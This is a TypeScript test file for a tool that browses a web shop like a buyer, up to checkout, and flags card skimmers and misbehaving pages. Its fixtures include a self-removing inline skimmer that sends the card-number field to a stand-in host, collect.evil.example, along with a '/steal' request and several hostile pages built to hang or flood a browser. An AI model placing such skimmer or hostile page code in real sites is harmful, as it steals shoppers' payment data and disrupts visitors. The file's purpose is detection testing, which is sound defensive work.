import assert from "node:assert/strict"
import type { IncomingMessage, ServerResponse } from "node:http"
import { test } from "node:test"
import type { BuyerWalk, PageRole } from "../../src/checks/facts.ts"
import { startServer } from "../servers/server.ts"
import { html, script, shopRoutes, skip, walkShop } from "./browser-shop.ts"

const pageOf = (walk: BuyerWalk, role: PageRole) => {
  const page = walk.pages.find((one) => one.role === role)
  assert.ok(page, `${role} was reached: ${JSON.stringify(walk.notReached)}`)
  return page
}
const posts = (asked: readonly string[]): readonly string[] => asked.filter((line) => !line.startsWith("GET "))

test("walk: an honest shop is seen from the top to the checkout, and nothing is bought", { skip }, async () => {
  const { walk, asked } = await walkShop(shopRoutes())
  assert.deepEqual(
    walk.pages.map(({ role, scripts }) => [role, scripts.length]),
    [
      ["top", 2],
      ["product", 1],
      ["cart", 1],
      ["checkout", 1],
      ["log-in", 0],
    ],
  )
  assert.deepEqual(posts(asked), ["POST /cart/add"], "one thing is put into the cart, and nothing else is sent")
  assert.equal(walk.writesSent, 1)
  assert.equal(walk.addedToCart, "yes")
  assert.deepEqual([walk.notReached, walk.ownCardFields, walk.skimmerShapes], [[], [], []])
  assert.equal(walk.seenBy, "browser")
  assert.ok(Math.abs(walk.requestsSent - asked.length) <= 2, "but for the icon, which may come late")
  const [external, inline] = pageOf(walk, "top").scripts
  assert.match(external?.url ?? "", /\/app\.js\?v=$/, "the query's value is taken out")
  assert.equal(external?.sizeBytes, 14)
  assert.deepEqual([inline?.inline, inline?.head], [true, "var top1 = 1"])
  assert.equal(pageOf(walk, "log-in").forms[0]?.fields.length, 2)
})

test("walk: a script that only the checkout carries, and takes itself away, is found", { skip }, async () => {
  const skimmer = `document.currentScript.remove();const f=document.querySelector("[name=cardNumber]");f.onblur=()=>{new Image().src="https://collect.evil.example/p.gif?d="+f.value};navigator.sendBeacon("/stat","x");fetch("https://collect.evil.example/ping",{method:"POST"}).catch(()=>0)`
  const checkout = html(
    `<dl><dt>カード番号</dt><dd><input name="cardNumber"></dd></dl><form action="/order" method="post"><input name="x"></form><script>${skimmer}</script><script src="https://cdn.evil.example/a.js?id=9"></script>`,
  )
  const { walk, asked } = await walkShop(shopRoutes({ "/checkout-page": checkout }))
  const page = pageOf(walk, "checkout")
  assert.equal(page.scripts.length, 2)
  assert.ok(page.scripts.some(({ inline, head }) => inline && head.startsWith("document.currentScript.remove")))
  assert.ok(
    page.scripts.some(({ url, own, sha256 }) => url === "https://cdn.evil.example/a.js?id=" && !own && sha256 === ""),
  )
  assert.deepEqual(
    walk.skimmerShapes.map(({ shape, script }) => [shape, script]),
    [["card-fields-sent-elsewhere", "(inline)"]],
  )
  assert.deepEqual(
    walk.ownCardFields.map(({ field }) => field),
    ["cardNumber"],
  )
  assert.ok(page.contacts.some(({ host, kind }) => host === "collect.evil.example" && kind === "fetch"))
  assert.ok((page.stopped ?? 0) >= 3, "the beacon, the request and the script from outside were stopped")
  assert.deepEqual(posts(asked), ["POST /cart/add"])
  assert.ok(
    walk.pages
      .filter(({ role }) => role !== "checkout")
      .every(({ scripts }) => scripts.every(({ head }) => !head.includes("remove"))),
  )
})

test(
  "walk: card fields in the provider's frame are the provider's; in the shop's own frame and shadow trees they are the shop's",
  { skip },
  async () => {
    const provider = await startServer({
      "/form": html(`<input autocomplete="cc-number" name="number"><script>var provider = 1</script>`),
    })
    try {
      const frame = (address: string): string => `<iframe src="${address}"></iframe>`
      const honest = await walkShop(shopRoutes({ "/checkout-page": html(frame(`${provider.url}/form`)) }))
      assert.deepEqual(honest.walk.ownCardFields, [])
      assert.equal(
        pageOf(honest.walk, "checkout").scripts.length,
        0,
        "the provider's scripts run in the provider's frame",
      )
      assert.deepEqual(pageOf(honest.walk, "checkout").frames, [`${provider.url}/form`])
      assert.ok(provider.asked.includes("GET /form"), "the frame was really loaded")
      const shadow = `<div id="s"></div><script>document.getElementById("s").attachShadow({mode:"open"}).innerHTML="<input id=card-number>"</script>`
      const own = await walkShop(
        shopRoutes({
          "/checkout-page": html(frame("/pay-frame") + shadow),
          "/pay-frame": html(`<input name="cc-csc" autocomplete="cc-csc">`),
        }),
      )
      assert.deepEqual(own.walk.ownCardFields.map(({ field }) => field).toSorted(), ["card-number", "cc-csc"])
    } finally {
      await provider.close()
    }
  },
)

test("walk: a page cannot make the one click write twice, elsewhere, or later", { skip }, async () => {
  const elsewhere = await startServer(() => {})
  try {
    const greedy = `<button type="button">カートに入れる</button><script>
      fetch("/early",{method:"POST"});navigator.sendBeacon("/beacon","x");
      document.querySelector("button").onclick=async()=>{
        for(let i=0;i<5;i++)fetch("/cart/add",{method:"POST"}).catch(()=>0);
        fetch("${elsewhere.url}/steal",{method:"POST",mode:"no-cors"}).catch(()=>0);
        document.cookie="cart=1;path=/"}</script>`
    const { walk, asked } = await walkShop(
      shopRoutes({
        "/products/1": html(greedy),
        "/cart/add": { body: "ok" },
        "/cart": html(`<a href="/shopping">レジに進む</a><script>fetch("/late",{method:"POST"})</script>`),
      }),
    )
    assert.deepEqual(posts(asked), ["POST /cart/add"])
    assert.deepEqual(posts(elsewhere.asked), [])
    assert.equal(walk.addedToCart, "yes")
    assert.equal(pageOf(walk, "checkout").role, "checkout")
  } finally {
    await elsewhere.close()
  }
})

test(
  "walk: a cart that takes long to answer, and a button that is deaf at first, still fill the cart once",
  { skip },
  async () => {
    const button = (onclick: string) => html(`<button type="button">カートに入れる</button><script>
    let presses=0;const add=()=>fetch("/cart/add",{method:"POST"});
    document.querySelector("button").onclick=()=>{presses+=1;${onclick}}</script>`) // prettier-ignore
    const slow = (_request: IncomingMessage, response: ServerResponse) =>
      void setTimeout(() => response.writeHead(200, { "set-cookie": "cart=1; Path=/" }).end("ok"), 1_500)
    for (const onclick of ["add()", "if(presses===2)add()"]) {
      const { walk, asked } = await walkShop(shopRoutes({ "/products/1": button(onclick), "/cart/add": slow }))
      assert.deepEqual(posts(asked), ["POST /cart/add"], onclick)
      assert.equal(walk.addedToCart, "yes")
      assert.equal(pageOf(walk, "checkout").role, "checkout")
    }
  },
)

test("walk: a redirect after the click does not carry the write further", { skip }, async () => {
  const routes = shopRoutes({
    "/cart/add": { status: 307, headers: { location: "/order/place" } },
    "/order/place": (_request, response) => void response.writeHead(307, { location: "/order/confirm" }).end(),
  })
  const { asked } = await walkShop(routes)
  assert.ok(!asked.includes("POST /order/confirm"))
  assert.ok(posts(asked).length <= 2)
})

test("walk: a checkout that sends the guest back is not called reached", { skip }, async () => {
  const { walk, asked } = await walkShop(shopRoutes({ "/products/1": html("<p>売り切れ</p>") }))
  assert.equal(walk.addedToCart, "no-button")
  assert.deepEqual(posts(asked), [])
  assert.deepEqual(
    walk.notReached.map(({ role, fault }) => [role, fault]),
    [["checkout", "not-shown"]],
  )
})

test("walk: a page that leads away from the shop is not followed", { skip }, async () => {
  const elsewhere = await startServer({ "/": html("elsewhere") })
  try {
    const byScript = html(`<p>x</p><script>location.href="${elsewhere.url}/"</script>`)
    const { walk } = await walkShop(
      shopRoutes({ "/login": { status: 302, headers: { location: `${elsewhere.url}/` } }, "/cart": byScript }),
    )
    assert.deepEqual(elsewhere.asked, [])
    const missed = walk.notReached.find(({ role }) => role === "log-in")
    assert.deepEqual([missed?.fault, missed?.detail], ["redirect-outside", new URL(elsewhere.url).host])
    assert.equal(pageOf(walk, "cart").stopped, 1)
  } finally {
    await elsewhere.close()
  }
})

test("walk: a page that answers with an error is not called reached", { skip }, async () => {
  const { walk } = await walkShop(shopRoutes({ "/login": { ...html("oops"), status: 500 } }))
  assert.deepEqual(walk.notReached, [{ role: "log-in", fault: "not-shown", detail: "HTTP 500" }])
})

test("walk: without a browser the HTML is read, and it says so", async () => {
  const { walk, asked } = await walkShop(shopRoutes(), {}, { browser: "off" })
  assert.deepEqual([walk.seenBy, walk.browser, walk.without?.fault], ["html", null, "not-asked"])
  assert.deepEqual(asked, [])
  assert.deepEqual(
    walk.pages.map(({ role }) => role),
    ["top"],
  )
  assert.equal(walk.notReached.length, 4)
})

const SMALL = { pageMs: 2_500, walkMs: 20_000, settleMs: 200 }
const HOSTILE: readonly (readonly [name: string, top: string, look: (walk: BuyerWalk) => void])[] = [
  [
    "windows without end",
    `<p>x</p><script>setInterval(()=>{for(let i=0;i<50;i++)window.open("/?"+Math.random())},1)</script>`,
    (walk) => assert.equal(pageOf(walk, "top").role, "top"),
  ],
  [
    "an endless loop of alerts",
    `<p>x</p><script>while(true)alert(1)</script>`,
    (walk) => assert.ok(pageOrMiss(walk, "top") === "timed-out"),
  ],
  [
    "a loop that never ends",
    `<p>x</p><script>while(true){}</script>`,
    (walk) => assert.equal(pageOrMiss(walk, "top"), "timed-out"),
  ],
  [
    "redirects by script without end",
    `<script>location.href="/?"+Math.random()</script>`,
    (walk) => assert.equal(pageOrMiss(walk, "top"), "redirect-loop"),
  ],
  [
    "ten thousand scripts",
    Array.from({ length: 10_000 }, (_, at) => `<script src="/app.js?${at}"></script>`).join(""),
    (walk) => {
      assert.match(pageOrMiss(walk, "top") ?? "", /^(?:budget-used-up|timed-out)$/)
      assert.ok(walk.requestsSent <= 600)
    },
  ],
  [
    "names that hide the page's own commands",
    `<form name="querySelectorAll"><input name="action"><input name="cardNumber"></form><img name="createTreeWalker"><script>Array.prototype.push=null;Object.getOwnPropertyDescriptor=null;window.URL=null</script>`,
    (walk) =>
      assert.deepEqual(
        walk.ownCardFields.map(({ field }) => field),
        ["cardNumber"],
      ),
  ],
]
const pageOrMiss = (walk: BuyerWalk, role: PageRole): string | undefined =>
  walk.pages.find((page) => page.role === role)?.cut ?? walk.notReached.find((miss) => miss.role === role)?.fault
for (const [name, top, look] of HOSTILE)
  test(`hostile page: ${name}`, { skip }, async () => {
    const { walk, tookMs } = await walkShop(shopRoutes({ "/": html(top) }), SMALL)
    look(walk)
    assert.ok(tookMs < 40_000, `${tookMs} ms`)
  })

test("hostile page: one that never finishes", { skip }, async () => {
  const endless = (
    _request: unknown,
    response: { write(text: string): void; setHeader(name: string, value: string): void },
  ): void => {
    response.setHeader("content-type", "text/html")
    response.write("<!doctype html><p>begun</p>")
  }
  const { walk } = await walkShop(shopRoutes({ "/": endless }), SMALL)
  assert.equal(pageOrMiss(walk, "top"), "timed-out")
})

test("hostile page: a script without end does not hold the walk", { skip }, async () => {
  const endless = (
    _request: unknown,
    response: { write(text: string): void; setHeader(name: string, value: string): void },
  ): void => {
    response.setHeader("content-type", "text/javascript")
    response.write("/*")
  }
  const { walk } = await walkShop(
    shopRoutes({ "/": html(`<script src="/endless.js"></script>`), "/endless.js": endless }),
    SMALL,
  )
  assert.equal(pageOrMiss(walk, "top"), "timed-out")
  assert.equal(pageOf(walk, "cart").role, "cart")
})

test("walk: a script's own libraries and hash are told", { skip }, async () => {
  const { walk } = await walkShop(shopRoutes({ "/app.js": script("/*! nothing known */") }))
  assert.equal(pageOf(walk, "cart").scripts[0]?.libraries, undefined, "without data nobody looked")
  assert.match(pageOf(walk, "cart").scripts[0]?.sha256 ?? "", /^[0-9a-f]{64}$/)
})
